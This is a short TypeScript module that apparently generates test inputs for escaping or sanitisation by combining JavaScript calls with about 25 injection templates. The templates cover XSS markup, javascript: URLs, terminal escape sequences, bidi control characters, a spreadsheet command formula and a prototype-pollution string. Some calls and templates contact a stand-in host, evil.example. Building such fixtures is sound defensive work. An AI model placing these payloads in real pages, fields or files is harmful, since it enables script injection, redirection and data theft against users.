/** Texts that would do something where they are taken for more than texts: markup, addresses, terminals. */

const CALLS = ['window.ran=1', 'fetch("//evil.example/")', 'alert(1)', 'document.title="ran"'];

const SHAPES: readonly ((call: string) => string)[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror='${c}'>`,
  (c) => `<svg onload='${c}'>`,
  (c) => `"><script>${c}</script>`,
  (c) => `'"--></style></script><script>${c}</script>`,
  (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`,
  (c) => `javascript:${c}`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<math><mtext></form><form><mglyph><style></math><img src onerror='${c}'>`,
  (c) => `<body onpageshow='${c}'>`,
  (c) => `<details open ontoggle='${c}'>`,
  (c) => `<input autofocus onfocus='${c}'>`,
  (c) => `<object data="data:text/html,<script>${c}</script>"></object>`,
  (c) => `<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css">${c}`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `\${${c}} {{${c}}} <%= ${c} %>`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c) => `\u001b]0;${c}\u0007`,
  (c) => `\u001b[2J\u001b[31m${c}\u001b]8;;http://evil.example\u0007`,
  (c) => `\u202e${c}\u2066\u200b\ufeff`,
  (c) => `\u0000\u0008\u0085${c}\u2028\u2029`,
  (c) => `=cmd|'/c ${c}'!A1`,
  (c) => `\`${c}\` [x](javascript:${c})`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `__proto__ ${c} constructor`,
];

/** So many, all different. */
export function payloads(count: number): string[] {
  return Array.from({ length: count }, (_, i) => {
    const shape = SHAPES[i % SHAPES.length]!;
    const call = CALLS[Math.floor(i / SHAPES.length) % CALLS.length]!;
    return `${i} ${shape(call)}`;
  });
}
